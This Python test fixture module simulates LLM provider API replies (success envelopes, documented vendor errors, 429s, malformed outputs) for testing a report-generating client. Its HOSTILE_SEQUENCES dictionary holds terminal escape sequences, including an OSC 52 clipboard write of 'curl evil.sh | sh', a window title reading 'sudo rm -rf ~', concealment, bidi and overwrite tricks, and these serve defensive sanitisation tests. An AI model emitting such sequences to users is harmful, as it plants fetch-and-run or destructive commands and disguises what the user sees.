"""What the loopback provider server answers: bodies shaped as each vendor documents them.

Success envelopes follow the vendors' API references (OpenAI chat completions, Anthropic Messages,
Gemini generateContent, Cohere v2 chat, Ollama /api/chat, TGI /generate, Gradio's call API, the
original service's /api/infer). Error bodies and odd replies are the ones vendors document or users
report in public issues, quoted closely:

    DeepSeek   400 "This response_format type is unavailable now" to response_format json_schema
    OpenAI     400 unsupported_parameter 'max_tokens' (o-series, gpt-5); 400 unsupported_value temperature
    Groq       400 "invalid schema for response format: ...: minItems is not supported"
    Anthropic  400 "`temperature` is deprecated for this model."; 404 not_found_error "model: X"
    Gemini     400 API_KEY_INVALID (ErrorInfo); 429 RESOURCE_EXHAUSTED with RetryInfo retryDelay;
               MAX_TOKENS with a candidate that has no parts (thinking spent the budget)
    OpenRouter an error inside an HTTP 200, top level or on the choice (finish_reason "error")
"""

from __future__ import annotations

import json
import time
from dataclasses import dataclass, field
from http import HTTPStatus
from typing import Any

REPORT: dict[str, Any] = {
    "title": "Retry provider calls with jittered backoff",
    "summary": "Provider calls now retry transient failures with exponential backoff and jitter, "
    "and give up once the per-report deadline is spent.",
    "changes": ["Add a retry wrapper around providers", "Honour Retry-After on 429 replies"],
    "rationale": "Transient 5xx and 429 replies made whole reports fall back to the local analyzer.",
    "impact_and_tests": "Covered by loopback-server tests for 500, 429 and timeouts.",
    "next_steps": ["Share breaker state across processes"],
    "tags": ["resilience", "providers"],
}
INVALID_REPORT: dict[str, Any] = {"title": "short", "summary": "too short", "changes": []}
# What a prompt-injected model can send back: each sequence acts on a terminal that prints it raw.
HOSTILE_SEQUENCES = {
    "osc52": "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07",  # write "curl evil.sh | sh" to the clipboard
    "title": "\x1b]0;sudo rm -rf ~\x1b\\",  # set the window title (ST-terminated)
    "clear": "\x1b[2J\x1b[H",  # clear the screen, cursor home
    "conceal": "\x1b[8m",  # hide what follows
    "c1_csi": "\x9b31m",  # the 8-bit form of CSI
    "dcs": "\x1bP+q544e\x1b\\",  # a DCS query (XTGETTCAP)
    "bidi": "\u202e",  # right-to-left override
    "cr": "\r",  # return to column 0 and overwrite
}
HOSTILE_REPORT: dict[str, Any] = {
    **REPORT,
    "title": f"Retry provider calls{HOSTILE_SEQUENCES['title']} with backoff{HOSTILE_SEQUENCES['conceal']}",
    "summary": REPORT["summary"] + HOSTILE_SEQUENCES["osc52"] + HOSTILE_SEQUENCES["clear"],
    "changes": [f"Add a retry wrapper{HOSTILE_SEQUENCES['c1_csi']}", f"Honour Retry-After{HOSTILE_SEQUENCES['dcs']}"],
    "rationale": REPORT["rationale"] + HOSTILE_SEQUENCES["bidi"] + "exe.txt" + HOSTILE_SEQUENCES["cr"] + "Approved.",
}
GEMINI_STATUS = {400: "INVALID_ARGUMENT", 401: "UNAUTHENTICATED", 403: "PERMISSION_DENIED", 404: "NOT_FOUND",
                 429: "RESOURCE_EXHAUSTED", 500: "INTERNAL", 503: "UNAVAILABLE"}  # fmt: skip
ANTHROPIC_TYPE = {400: "invalid_request_error", 401: "authentication_error", 403: "permission_error",
                  404: "not_found_error", 429: "rate_limit_error", 529: "overloaded_error"}  # fmt: skip
MODELS = {"openai": ["gpt-5-mini", "gpt-5.4", "o4-mini"], "anthropic": ["claude-haiku-4-5", "claude-sonnet-5"],
          "gemini": ["gemini-3.5-flash", "gemini-3.1-pro"], "ollama": ["llama3.2:latest", "qwen3:8b"]}  # fmt: skip


@dataclass
class Reply:
    status: int
    body: Any
    headers: dict[str, str] = field(default_factory=dict)
    delay: float = 0.0
    #: how to send it: "" at once, "drip" headers one line a second, "huge" an endless body, "sse" an event stream
    style: str = ""


def report_text(scenario: str) -> str:
    """Return the model text a scenario stands for."""
    clean = json.dumps(REPORT)
    return {
        "prose": f"Sure! Here is the report you asked for:\n{clean}\nLet me know if you need anything else.",
        "fenced": f"Here it is.\n```json\n{json.dumps(REPORT, indent=2)}\n```\n",
        "think": f"<think>The diff adds a retry wrapper; summarise that.</think>\n{clean}",
        "think-braces": f'<think>I could answer {{"title": "x"}} but {{no}}.</think>\n{clean}',
        "bare-think": f'The diff {{adds}} a wrapper; {{"title": "draft"}} is too short.</think>\n{clean}',
        "braces": f"Draft {{not json}} first, then: {json.dumps(INVALID_REPORT)} and finally {clean} {{bye}}",
        "two": f"{json.dumps(INVALID_REPORT)}\n{clean}",
        "invalid": json.dumps(INVALID_REPORT),
        "hostile": json.dumps(HOSTILE_REPORT),
    }.get(scenario, clean)


def budget(protocol: str, req: dict[str, Any]) -> int:
    """The output budget a request asked for, wherever its protocol puts it."""
    if protocol == "gemini":
        return int(req.get("generationConfig", {}).get("maxOutputTokens", 0))
    if protocol == "ollama":
        return int(req.get("options", {}).get("num_predict", 0))
    if protocol == "tgi":
        return int(req.get("parameters", {}).get("max_new_tokens", 0))
    return int(req.get("max_tokens") or req.get("max_completion_tokens") or 0)


def envelope(protocol: str, text: str | None, req: dict[str, Any], reason: str = "stop") -> Any:
    """Wrap model text the way each real API does; `reason` is stop, refusal, length or tool_calls."""
    model = req.get("model", "test-model")
    if protocol == "openai":
        message: dict[str, Any] = {"role": "assistant", "content": text, "refusal": None}
        finish = {"refusal": "stop", "filter": "content_filter"}.get(reason, reason)
        if reason == "refusal":
            message.update(content=None, refusal="I'm sorry, I can't help with that request.")
        if reason == "tool_calls":
            message.update(content=None, tool_calls=[{"id": "call_1", "type": "function",
                                                      "function": {"name": "lookup", "arguments": "{}"}}])  # fmt: skip
        return {"id": "chatcmpl-test", "object": "chat.completion", "created": int(time.time()), "model": model,
                "choices": [{"index": 0, "message": message, "logprobs": None, "finish_reason": finish}],
                "usage": {"prompt_tokens": 812, "completion_tokens": 164, "total_tokens": 976,
                          "prompt_tokens_details": {"cached_tokens": 0},
                          "completion_tokens_details": {"reasoning_tokens": 64}}}  # fmt: skip
    if protocol == "anthropic":
        return _anthropic(text, req, reason)
    if protocol == "gemini":
        return _gemini(text, reason)
    if protocol == "cohere":
        finish = {"length": "MAX_TOKENS"}.get(reason, "COMPLETE")
        return {"id": "cohere-test", "finish_reason": finish,
                "message": {"role": "assistant", "content": [{"type": "text", "text": text or ""}]},
                "usage": {"billed_units": {"input_tokens": 803, "output_tokens": 171},
                          "tokens": {"input_tokens": 869, "output_tokens": 171}}}  # fmt: skip
    if protocol == "ollama":
        done = "length" if reason == "length" else "stop"
        return {"model": model, "created_at": "2026-11-30T12:00:00Z", "done": True, "done_reason": done,
                "message": {"role": "assistant", "content": text or ""}, "total_duration": 4883583458,
                "load_duration": 1334875, "prompt_eval_count": 826, "prompt_eval_duration": 342546000,
                "eval_count": 182, "eval_duration": 4535599000}  # fmt: skip
    if protocol == "tgi":
        finish = "length" if reason == "length" else "eos_token"
        return {"generated_text": text or "", "details": {"finish_reason": finish, "generated_tokens": 20}}
    if protocol == "infer":
        return {"success": True, "data": {"report": json.loads(text) if text and text.startswith("{") else text}}
    return {"text": text}


def _anthropic(text: str | None, req: dict[str, Any], reason: str) -> Any:
    tool = req.get("tool_choice", {}).get("name") if isinstance(req.get("tool_choice"), dict) else None
    if reason == "refusal":
        blocks: list[dict[str, Any]] = []
        stop = "refusal"
    elif reason == "length":
        blocks, stop = [{"type": "text", "text": (text or "")[:40]}], "max_tokens"
    elif tool and text and text.startswith("{"):
        blocks, stop = [{"type": "tool_use", "id": "toolu_test", "name": tool, "input": json.loads(text)}], "tool_use"
    else:
        blocks, stop = [{"type": "text", "text": text or ""}], "end_turn"
    return {"id": "msg_test", "type": "message", "role": "assistant", "model": req.get("model"), "content": blocks,
            "stop_reason": stop, "stop_sequence": None,
            "usage": {"input_tokens": 790, "cache_creation_input_tokens": 0, "cache_read_input_tokens": 24,
                      "output_tokens": 158, "service_tier": "standard"}}  # fmt: skip


def _gemini(text: str | None, reason: str) -> Any:
    usage: dict[str, Any] = {"promptTokenCount": 805, "candidatesTokenCount": 160, "totalTokenCount": 1445,
                             "thoughtsTokenCount": 480,
                             "promptTokensDetails": [{"modality": "TEXT", "tokenCount": 805}]}  # fmt: skip
    if reason == "blocked":
        return {"promptFeedback": {"blockReason": "SAFETY"}, "usageMetadata": usage}
    if reason == "refusal":
        candidate: dict[str, Any] = {"finishReason": "SAFETY", "index": 0,
                                     "safetyRatings": [{"category": "HARM_CATEGORY_DANGEROUS_CONTENT",
                                                        "probability": "HIGH", "blocked": True}]}  # fmt: skip
    elif reason == "length":  # a thinking model spent maxOutputTokens thinking: no parts at all
        candidate = {"content": {"role": "model"}, "finishReason": "MAX_TOKENS", "index": 0}
        usage = {k: v for k, v in usage.items() if k != "candidatesTokenCount"}  # no candidate text: no count
        usage.update(thoughtsTokenCount=1500, totalTokenCount=2305)
    else:
        candidate = {"content": {"parts": [{"text": text}], "role": "model"}, "finishReason": "STOP", "index": 0}
    return {"candidates": [candidate], "usageMetadata": usage, "modelVersion": "gemini-test"}


def error_body(protocol: str, status: int, message: str | None = None) -> Any:
    """Return an error body shaped as each real API shapes it."""
    phrase = HTTPStatus(status).phrase if status in HTTPStatus._value2member_map_ else "Error"
    message = message or f"simulated HTTP {status} ({phrase})"
    if protocol == "openai":
        kind = "server_error" if status >= 500 else "invalid_request_error"
        return {"error": {"message": message, "type": kind, "param": None, "code": None}}
    if protocol == "anthropic":
        return {"type": "error", "error": {"type": ANTHROPIC_TYPE.get(status, "api_error"), "message": message},
                "request_id": "req_011CTest"}  # fmt: skip
    if protocol == "gemini":
        return {"error": {"code": status, "message": message, "status": GEMINI_STATUS.get(status, "UNKNOWN")}}
    if protocol == "cohere":
        return {"id": "cohere-error", "message": message}
    if protocol == "tgi":
        return {"error": message, "error_type": "validation" if status < 500 else "generation"}
    return {"error": message}


def model_not_found(protocol: str, model: str) -> Reply:
    """A retired or unknown model, as each API says it (all HTTP 404)."""
    bodies: dict[str, Any] = {
        "openai": {"error": {"message": f"The model `{model}` does not exist or you do not have access to it.",
                             "type": "invalid_request_error", "param": None, "code": "model_not_found"}},
        "anthropic": {"type": "error", "error": {"type": "not_found_error", "message": f"model: {model}"},
                      "request_id": "req_011CTest"},
        "gemini": {"error": {"code": 404, "message": f"models/{model} is not found for API version v1beta, or is "
                             "not supported for generateContent. Call ListModels to see the list of available "
                             "models and their supported methods.", "status": "NOT_FOUND"}},
        "cohere": {"id": "cohere-error", "message": f"model '{model}' not found, make sure the correct model ID "
                   "was used and that you have access to the model."},
        "ollama": {"error": f'model "{model}" not found, try pulling it first'},
    }  # fmt: skip
    return Reply(404, bodies.get(protocol, error_body(protocol, 404)))


def vendor_errors(name: str, protocol: str, req: dict[str, Any]) -> Reply | None:
    """The documented 4xx/429 replies that depend on what the request holds (None: the request passes)."""
    fmt = req.get("response_format") if isinstance(req.get("response_format"), dict) else {}
    if name == "deepseek" and fmt.get("type") == "json_schema":
        return Reply(
            400,
            {
                "error": {
                    "message": "This response_format type is unavailable now",
                    "type": "invalid_request_error",
                    "param": None,
                    "code": "invalid_request_error",
                }
            },
        )
    if name == "o-series" and "max_tokens" in req:
        return Reply(
            400,
            {
                "error": {
                    "message": "Unsupported parameter: 'max_tokens' is not supported with this "
                    "model. Use 'max_completion_tokens' instead.",
                    "type": "invalid_request_error",
                    "param": "max_tokens",
                    "code": "unsupported_parameter",
                }
            },
        )
    if name == "o-series" and req.get("temperature", 1) != 1:
        return Reply(
            400,
            {
                "error": {
                    "message": f"Unsupported value: 'temperature' does not support "
                    f"{req['temperature']} with this model. Only the default (1) value is "
                    "supported.",
                    "type": "invalid_request_error",
                    "param": "temperature",
                    "code": "unsupported_value",
                }
            },
        )
    if name == "groq-schema" and "minItems" in json.dumps(fmt):
        return Reply(
            400,
            {
                "error": {
                    "message": "invalid schema for response format: response_format/json_schema/"
                    "changes: minItems is not supported",
                    "type": "invalid_request_error",
                }
            },
        )
    if name == "no-temperature" and "temperature" in req:
        return Reply(
            400,
            {
                "type": "error",
                "error": {"type": "invalid_request_error", "message": "`temperature` is deprecated for this model."},
                "request_id": "req_011CTest",
            },
        )
    if name == "gemini-key":
        return Reply(
            400,
            {
                "error": {
                    "code": 400,
                    "message": "API key not valid. Please pass a valid API key.",
                    "status": "INVALID_ARGUMENT",
                    "details": [
                        {
                            "@type": "type.googleapis.com/google.rpc.ErrorInfo",
                            "reason": "API_KEY_INVALID",
                            "domain": "googleapis.com",
                            "metadata": {"service": "generativelanguage.googleapis.com"},
                        }
                    ],
                }
            },
        )
    if name == "gemini-429":
        return Reply(
            429,
            {
                "error": {
                    "code": 429,
                    "message": "You exceeded your current quota, please check your plan and billing details.",
                    "status": "RESOURCE_EXHAUSTED",
                    "details": [{"@type": "type.googleapis.com/google.rpc.RetryInfo", "retryDelay": "3s"}],
                }
            },
        )
    return None  # fmt: skip


def rate_limit(name: str, protocol: str, arg: str) -> Reply | None:
    """429 replies with each form of Retry-After vendors send."""
    headers = {
        "429": {"Retry-After": "2"},
        "429-ms": {"Retry-After": "10", "retry-after-ms": "1500"},
        "429-reset": {"x-ratelimit-limit-requests": "500", "x-ratelimit-remaining-requests": "0",
                      "x-ratelimit-reset-requests": "6m0s", "x-ratelimit-remaining-tokens": "1000",
                      "x-ratelimit-reset-tokens": "1s"},
        "429-long": {"Retry-After": arg or "600"},
    }.get(name)  # fmt: skip
    return None if headers is None else Reply(429, error_body(protocol, 429), headers)


def openrouter(name: str, req: dict[str, Any]) -> Reply | None:
    """OpenRouter's errors that arrive in an HTTP 200, after the status line was sent."""
    if name == "openrouter-429":
        return Reply(
            200,
            {
                "error": {
                    "message": "Rate limit exceeded: free-models-per-day",
                    "code": 429,
                    "metadata": {
                        "headers": {"X-RateLimit-Limit": "50", "X-RateLimit-Remaining": "0"},
                        "provider_name": None,
                    },
                },
                "user_id": "user_test",
            },
        )
    if name == "openrouter-choice":
        return Reply(
            200,
            {
                "id": "gen-test",
                "object": "chat.completion",
                "model": req.get("model"),
                "choices": [
                    {
                        "index": 0,
                        "finish_reason": "error",
                        "message": {"role": "assistant", "content": ""},
                        "error": {"code": 502, "message": "Upstream error from provider: connection reset"},
                    }
                ],
            },
        )
    return None  # fmt: skip
